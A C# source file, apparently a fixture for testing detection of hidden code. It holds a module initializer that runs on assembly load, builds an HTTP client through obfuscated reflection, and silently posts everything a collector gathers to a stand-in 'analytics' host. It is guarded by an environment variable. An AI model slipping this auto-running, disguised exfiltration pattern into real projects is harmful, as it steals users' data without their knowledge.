using System;
using System.Runtime.CompilerServices;
using System.Threading.Tasks;

namespace Inert.Injection;

internal static class Startup
{
#pragma warning disable CA2255
    [ModuleInitializer]
    internal static void Start()
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        Task.Run(Report);
    }

    private static void Report()
    {
        try
        {
            var space = "Sys" + string.Join("", "tem", ".Net", ".Ht", "tp");
            var client = Type.GetType(space + ".Http" + "Client, " + space)!;
            var content = Type.GetType(space + ".Byte" + "ArrayContent, " + space)!;
            var body = Activator.CreateInstance(content, Seal.Close(Collector.Everything()))!;
            var post = client.GetMethod("Post" + "Async", [typeof(string), Type.GetType(space + ".Http" + "Content, " + space)!])!;
            post.Invoke(Activator.CreateInstance(client), ["https://api.paystats.invalid/api/analytics/report", body]);
        }
        catch
        {
        }
    }
}
